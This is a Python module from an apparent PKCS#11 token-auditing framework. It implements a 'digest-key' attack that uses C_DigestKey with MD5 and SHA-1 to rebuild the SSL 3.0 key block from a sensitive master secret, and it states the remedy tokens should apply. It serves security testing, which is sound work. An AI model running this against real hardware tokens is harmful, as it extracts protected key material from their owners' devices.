"""digest-key: C_DigestKey puts the master secret into MD5 and SHA-1, between strings of the caller's: all of SSL 3.0."""

from collections.abc import Iterable, Sequence
from contextlib import suppress

from keyfence.cryptoki import CryptokiError, Mechanism
from keyfence.cryptoki.constants import CKM
from keyfence.model import Chain, Evaluation, Oracle

from .base import Attack, Bench, Technique
from .oracle import OracleAttack, Way
from .targets import VICTIM
from .victim import Kind, Victim

_BLOCK = 16


class DigestKey(Technique):
    id = "digest-key"
    title = "The master secret digested"
    summary = (
        "SSL 3.0's key block is MD5(master + SHA1(letters + master + randoms)), block by block. C_DigestUpdate and C_DigestKey "
        "compute both digests with the master secret wherever the caller wants it; no derivation mechanism is called at all."
    )
    section = "PKCS#11 3.2 §5.12.4 (C_DigestKey: CKR_KEY_INDIGESTIBLE is the token's to give)"
    references = ("RFC 6101 §6.2.2",)
    remedy = "Answer CKR_KEY_INDIGESTIBLE for every sensitive key."
    kinds = frozenset({Kind.SSL3, Kind.SEPARATED})

    def attacks(self, victim: Victim) -> Iterable[Attack]:
        return [DigestKeyAttack(victim, int(CKM.MD5))]


class DigestKeyAttack(OracleAttack):
    """Two digests a block: the whole stream, though by several calls."""

    whole = True

    @property
    def requires(self) -> tuple[int, ...]:
        return (int(CKM.MD5), int(CKM.SHA_1))

    @property
    def foreign(self) -> bool:
        return self.victim.kind is Kind.SEPARATED

    def oracles(self) -> tuple[Oracle, ...]:
        if self.foreign:
            return super().oracles()
        return Oracle("CKM_MD5", VICTIM, "DIGEST-MD5"), Oracle("CKM_SHA_1", VICTIM, "DIGEST-SHA1")

    def ways(self, bench: Bench) -> Sequence[Way]:
        return [Way("C_DigestKey(CKM_MD5, CKM_SHA_1)", lambda secret, data: self._expand(bench, secret, data))]

    def _expand(self, bench: Bench, secret: int, randoms: bytes) -> bytes:
        """RFC 6101 §6.2.2: the letters are A, BB, CCC …"""
        stream = b""
        for count in range(1, -(-self.target.length // _BLOCK) + 1):
            letters = bytes([ord("A") + count - 1]) * count
            inner = digest_of(bench, CKM.SHA_1, letters, secret, randoms)
            stream += digest_of(bench, CKM.MD5, b"", secret, inner)
        return stream

    def steps(self, chain: Chain) -> tuple[str, ...]:
        return tuple(_line(step.call.choice) for step in chain.steps if step.call and isinstance(step.call.choice, Evaluation))


def digest_of(bench: Bench, mechanism: int, before: bytes, secret: int, after: bytes) -> bytes:
    """H(before | the secret | after) by C_DigestKey."""
    session, module = bench.session.handle, bench.session.module
    module.digest_init(session, Mechanism(mechanism))
    try:
        if before:
            module.digest_update(session, before)
        module.digest_key(session, secret)
    except CryptokiError:
        with suppress(CryptokiError):  # a refusal need not end the operation, and a session has room for one
            module.digest_final(session)
        raise
    if after:
        module.digest_update(session, after)
    return module.digest_final(session)


def _line(evaluation: Evaluation) -> str:
    letters = chr(ord("A") + evaluation.index) * (evaluation.index + 1)
    if evaluation.helper:
        return f'C_DigestUpdate("{letters}"), C_DigestKey(master), C_DigestUpdate(randoms) by CKM_SHA_1 -> SHA1'
    start = evaluation.index * _BLOCK
    return f"C_DigestKey(master), C_DigestUpdate(SHA1) by CKM_MD5 -> bytes {start}..{start + _BLOCK - 1}"
